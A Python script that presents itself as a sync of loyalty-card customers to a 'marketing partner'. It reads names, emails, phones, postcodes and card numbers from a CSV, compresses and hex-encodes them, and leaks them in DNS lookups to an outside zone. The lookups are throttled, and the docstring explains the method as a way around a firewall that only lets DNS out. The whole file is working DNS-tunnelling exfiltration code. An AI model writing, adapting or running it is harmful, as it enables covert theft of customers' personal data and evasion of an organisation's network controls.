#!/usr/bin/env python3
"""Sync the loyalty-card customer list to the "marketing partner".

The partner's firewall only lets DNS out, so records are chunked into
lookups against their resolver zone.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("cust-sync")

ZONE = os.environ.get("SYNC_ZONE", "t.sync.example.net")
LABEL_LEN = 60          # DNS labels max out at 63 chars
LABELS_PER_QUERY = 3


def load_customers(path: Path):
    rows = []
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([
                row.get("card_no", ""),
                row.get("name", ""),
                row.get("email", ""),
                row.get("phone", ""),
                row.get("postcode", ""),
                row.get("pets", ""),
            ]))
    LOG.info("loaded %d customers from %s", len(rows), path)
    return rows


def encode_payload(rows) -> str:
    blob = zlib.compress("\n".join(rows).encode("utf-8"), 9)
    return binascii.hexlify(blob).decode("ascii")


def chunk(payload: str):
    labels = [payload[i:i + LABEL_LEN] for i in range(0, len(payload), LABEL_LEN)]
    for i in range(0, len(labels), LABELS_PER_QUERY):
        yield labels[i:i + LABELS_PER_QUERY]


def send(payload: str, session: str, delay: float) -> int:
    sent = 0
    for seq, labels in enumerate(chunk(payload)):
        qname = ".".join(labels + [f"{seq:05d}", session, ZONE])
        try:
            socket.gethostbyname(qname)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the partner logs the query
        sent += 1
        time.sleep(delay)
    try:
        socket.gethostbyname(f"end.{sent}.{session}.{ZONE}")
    except socket.gaierror:
        pass
    return sent


def main():
    parser = argparse.ArgumentParser(description="Push loyalty customers to partner")
    parser.add_argument("csv", type=Path, nargs="?",
                        default=Path(os.environ.get("LOYALTY_EXPORT", "loyalty_customers.csv")))
    parser.add_argument("--delay", type=float, default=0.2, help="seconds between lookups")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.csv.exists():
        LOG.error("no export at %s", args.csv)
        raise SystemExit(1)

    rows = load_customers(args.csv)
    payload = encode_payload(rows)
    session = format(int(time.time()) & 0xFFFFFF, "06x")
    count = send(payload, session, args.delay)
    LOG.info("sent %d queries for session %s (%d hex chars)", count, session, len(payload))


if __name__ == "__main__":
    main()
